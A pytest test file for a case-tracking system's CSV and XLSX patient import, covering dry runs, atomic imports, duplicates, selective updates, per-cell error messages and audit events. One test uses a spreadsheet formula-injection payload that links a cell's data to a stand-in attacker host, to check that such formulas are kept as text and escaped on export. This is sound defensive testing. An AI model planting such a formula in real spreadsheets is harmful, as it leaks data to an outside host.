"""Importing lists of cases: the dry run, all rows or none, duplicates, updates chosen field by
field, each refusal naming its row and column, and one audit event per import."""

import datetime as dt
import io

import pytest

from casetracker.audit.models import Action, SubjectType
from casetracker.exports import cell_value
from patients.imports.cases import CREATE, REJECT, UPDATE, file_sha256, import_cases
from patients.models import Companion, Patient, Referral
from tests import factories

from .files import case_row, csv_bytes, database_state, import_events, xlsx_bytes


@pytest.fixture
def importing(coordinator, facility):
    """`importing(data, name="list.csv", **kwargs)`: the import's result."""

    def run(data: bytes, name: str = "list.csv", **kwargs):
        kwargs.setdefault("dry_run", False)
        return import_cases(file=io.BytesIO(data), name=name, actor=coordinator, **kwargs)

    return run


def messages(result) -> list[tuple]:
    return [(e.row, e.column, e.message) for e in result.errors()]


def test_import_cases_companion_and_referral_are_optional(importing):
    alone = {key: "" for key in case_row(2) if key.startswith(("companion", "referral"))}
    result = importing(csv_bytes([case_row(1), case_row(2, **alone)]))
    assert result.applied, messages(result)
    assert result.counts() == {"create": 2, "update": 0, "reject": 0}
    lone = Patient.objects.get(case_reference=result.rows[1].reference)
    assert not lone.companions.exists() and not lone.referrals.exists()


def test_import_cases_dry_run_changes_nothing_and_previews_every_row(importing, coordinator):
    before = database_state()
    data = csv_bytes([case_row(1), case_row(2)])
    result = importing(data, dry_run=True)
    assert [(r.row, r.outcome, r.reference) for r in result.rows] == [
        (2, CREATE, ""),
        (3, CREATE, ""),
    ]
    assert not result.applied
    assert database_state() == before
    (event,) = import_events()
    assert (event.subject_type, event.subject_ref, event.actor) == (
        SubjectType.IMPORT,
        "cases",
        coordinator,
    )
    assert event.details == {
        "sha256": file_sha256(io.BytesIO(data)),
        "format": "csv",
        "dry_run": True,
        "applied": False,
        "file_refused": False,
        "rows": {"create": 2, "update": 0, "reject": 0},
    }


def test_import_cases_real_import_saves_through_the_services(importing, facility, today):
    result = importing(csv_bytes([case_row(1, needs_oxygen="نعم")]))
    assert result.applied, messages(result)
    (row,) = result.rows
    patient = Patient.objects.get(case_reference=row.reference)
    assert (patient.national_id, patient.date_of_birth, patient.facility) == (
        "900000001",
        dt.date(1980, 5, 17),
        facility,
    )
    assert patient.needs_oxygen and not patient.needs_stretcher
    companion = Companion.objects.get(patient=patient)
    assert (companion.date_of_birth, companion.relationship) == (dt.date(1975, 1, 2), "husband")
    referral = Referral.objects.get(patient=patient)
    assert referral.issued_on == dt.date(2026, 2, 1)  # day first
    (event,) = import_events()
    assert event.details["applied"] and event.details["rows"]["create"] == 1
    actions = set(
        patient_event.action
        for patient_event in type(event).objects.filter(subject_ref=patient.case_reference)
    )
    assert actions == {Action.REGISTER, Action.COMPANION_ADD, Action.CREATE}


def test_import_cases_all_rows_or_none(importing):
    before = database_state()
    rows = [case_row(1), case_row(2), case_row(3, date_of_birth="31/02/1990")]
    result = importing(csv_bytes(rows))
    assert not result.applied
    assert [r.outcome for r in result.rows] == [CREATE, CREATE, REJECT]
    assert messages(result) == [
        (4, "date_of_birth", "'31/02/1990' is not a date (day 31, month 2)"),
    ]
    assert database_state() == before
    assert import_events()[0].details["rows"] == {"create": 2, "update": 0, "reject": 1}


def test_import_cases_arabic_and_english_headers(importing):
    headers = ["Full name (Latin)", "الاسم الكامل (عربي)", "رقم الهوية", "Date of birth", "الجنس"]
    headers += ["رمز المنشأة", "PRIORITY", "clinical category"]
    row = ["Amal Haddad", "أمل حداد", "٩٠٠ ١٢٣ ٤٥٦", "04/02/2000", "أنثى", "al-amal", "عاجل"]
    row += ["oncology"]
    result = importing(csv_bytes([row], headers))
    assert result.applied, messages(result)
    patient = Patient.objects.get()
    assert (patient.national_id, patient.date_of_birth) == ("900123456", dt.date(2000, 2, 4))
    assert (patient.sex, patient.priority) == ("female", "urgent")  # by their Arabic names


def test_import_cases_xlsx_reads_the_same(importing):
    result = importing(xlsx_bytes([case_row(1), case_row(2)]), name="list.xlsx")
    assert result.applied, messages(result)
    assert Patient.objects.count() == 2
    assert import_events()[0].details["format"] == "xlsx"


def test_import_cases_same_national_id_twice_in_the_file(importing):
    before = database_state()
    rows = [case_row(1, national_id="900 111 222"), case_row(2, national_id="٩٠٠١١١٢٢٢")]
    result = importing(csv_bytes(rows))
    assert messages(result) == [(3, "national_id", "the same national ID as row 2")]
    assert database_state() == before


def test_import_cases_national_id_already_held_is_a_duplicate(importing, facility):
    held = factories.PatientFactory(national_id="900000001", facility=facility, phone="1")
    before = database_state()
    result = importing(csv_bytes([case_row(1, priority="critical")]))
    ((row, column, message),) = messages(result)
    assert (row, column) == (2, "national_id")
    assert held.case_reference in message
    assert database_state() == before


def test_import_cases_updates_only_the_fields_chosen(importing, facility):
    held = factories.PatientFactory(
        national_id="900000001", facility=facility, phone="1", priority="routine"
    )
    name = held.name_latin
    result = importing(
        csv_bytes([case_row(1, priority="critical", phone="")]),
        update_fields={"priority", "phone"},
    )
    assert result.applied, messages(result)
    (row,) = result.rows
    assert (row.outcome, row.reference, row.changed) == (UPDATE, held.case_reference, ["priority"])
    held.refresh_from_db()
    # A blank cell never erases; a field not chosen is never changed.
    assert (held.priority, held.phone, held.name_latin) == ("critical", "1", name)
    assert Companion.objects.filter(patient=held).count() == 0


def test_import_cases_update_fields_must_be_updatable(importing):
    with pytest.raises(ValueError, match="national_id"):
        importing(csv_bytes([case_row(1)]), update_fields={"national_id"})


def test_import_cases_service_rules_name_their_column(importing, today):
    child = f"01/01/{today.year - 10}"
    rows = [
        case_row(1, companion1_date_of_birth=child, companion1_is_guardian="yes"),
        case_row(2, national_id="12ab"),
        case_row(3, sex="other", facility="nowhere"),
    ]
    result = importing(csv_bytes(rows))
    assert messages(result) == [
        (2, "companion1_is_guardian", "a guardian must be an adult"),
        (3, "national_id", "a national ID is made of digits only (spaces and dashes are ignored)"),
        (4, "sex", "'other' is not one of: female, male"),
        (4, "facility", "no active facility has the code 'nowhere'"),
    ]


def test_import_cases_formula_cells_are_kept_as_text(importing):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    result = importing(csv_bytes([case_row(1, diagnosis=formula, companion1_relationship="+1")]))
    assert result.applied, messages(result)
    patient = Patient.objects.get()
    assert patient.diagnosis == formula
    assert cell_value(patient.diagnosis) == "'" + formula  # harmless again when exported


def test_import_cases_a_megabyte_name_is_refused_by_row_and_column(importing):
    before = database_state()
    result = importing(csv_bytes([case_row(1), case_row(2, name_latin="A" * 1_000_000)]))
    assert messages(result) == [(3, "name_latin", "at most 200 characters, not 1,000,000")]
    assert database_state() == before


def test_import_cases_missing_cells_are_named(importing):
    result = importing(csv_bytes([case_row(1, date_of_birth="", referral_specialty="")]))
    assert messages(result) == [
        (2, "date_of_birth", "this cell is required"),
        (2, "referral_specialty", "this cell is required"),
    ]


def test_import_cases_xlsx_typed_cells(importing):
    """Dates typed as dates, an ID typed as a number, a formula never evaluated (read as the
    value the spreadsheet last saved, here none: the cell is empty)."""
    row = case_row(
        1,
        national_id=900000001,
        date_of_birth=dt.datetime(1980, 5, 17),
        referral_issued_on=dt.date(2026, 2, 1),
        diagnosis="=1+1",
    )
    result = importing(xlsx_bytes([row]), name="list.xlsx")
    assert result.applied, messages(result)
    patient = Patient.objects.get()
    assert (patient.national_id, patient.date_of_birth, patient.diagnosis) == (
        "900000001",
        dt.date(1980, 5, 17),
        "",
    )


def test_every_template_column_is_documented():
    from pathlib import Path

    from django.conf import settings

    from patients.imports.template import columns

    documented = (Path(settings.BASE_DIR) / "docs" / "imports.md").read_text()
    for column in columns():
        if column.slot in (None, 1):
            assert f"| `{column.key}` | {column.english} | {column.arabic} |" in documented
